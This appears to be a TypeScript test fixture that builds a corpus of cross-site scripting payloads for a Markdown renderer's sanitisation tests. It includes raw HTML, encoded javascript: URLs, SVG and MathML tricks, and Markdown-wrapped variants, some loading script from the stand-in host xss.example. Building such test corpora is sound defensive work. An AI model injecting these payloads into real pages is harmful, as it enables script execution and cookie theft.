// Hostile Markdown for the render tests: the classes of OWASP's XSS filter-evasion cheat
// sheet (script tags, event handlers, javascript: and its encodings, SVG/MathML, broken
// tags, HTML in code fences, link titles, reference links, autolinks), each a real input.

/** Raw HTML payloads, as they would be pasted into a Markdown document. */
const HTML_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>',
  '<script/xss src="https://xss.example/xss.js"></script>',
  '<<script>alert("XSS");//<</script>',
  '<script src=//xss.example/.j>',
  '</title><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<style>@import "https://xss.example/xss.css";</style>',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="  JaVaScRiPt:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  '<div onmouseover="alert(1)">hover</div>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src="x" onerror="alert(1)"',
  '<a href="x" onclick=alert(1)//',
  '<!--<script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

/** URLs that must never become a link or image target. */
const HOSTILE_URLS = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3A;alert(1)',
  '&#106;avascript:alert(1)',
  'java%0ascript:alert(1)',
  'java\\tscript:alert(1)',
  '%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)',
  ' javascript:alert(1)',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'DATA:text/html,<script>alert(1)</script>',
  'livescript:alert(1)',
];

/** Markdown constructs around a payload: links, images, titles, references, autolinks, code. */
const markdownCases: string[] = [];
for (const url of HOSTILE_URLS) {
  markdownCases.push(`[click](${url})`, `![img](${url})`, `[ref][x]\n\n[x]: ${url}`, `<${url}>`);
}
markdownCases.push(
  '[x](https://example.com "title\\" onmouseover=\\"alert(1)")',
  "[x](https://example.com '\"><script>alert(1)</script>')",
  '[x](<javascript:alert(1)> "t")',
  '![x](https://example.com/a.png "\\"><img src=x onerror=alert(1)>")',
  '[ref]\n\n[ref]: https://example.com "<script>alert(1)</script>"',
  '[a]: javascript:alert(1)\n\n[a]',
  'www.example.com/<script>alert(1)</script>',
  'https://example.com/"onmouseover="alert(1)',
  '<https://example.com/"><script>alert(1)</script>>',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\ncode\n```',
  '```javascript onload=alert(1)\nalert(1)\n```',
  '~~~svg\n<svg onload=alert(1)>\n~~~',
  '`<img src=x onerror=alert(1)>`',
  '    <script>alert(1)</script>',
  '| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
  '# <img src=x onerror=alert(1)>',
  '> <iframe src=javascript:alert(1)>',
  '* <object data=javascript:alert(1)>\n* <embed src=javascript:alert(1)>',
  '**<style>*{x:expression(alert(1))}</style>**',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '<a href="https://example.com">ok</a> <a href=javascript:alert(1)>no</a>',
  '\\<script>alert(1)\\</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
);

/** Every hostile input: raw payloads on their own, inside a paragraph, and the Markdown cases. */
export const XSS_CORPUS: string[] = [
  ...HTML_PAYLOADS,
  ...HTML_PAYLOADS.map((payload) => `Some text ${payload} and more text.`),
  ...markdownCases,
];
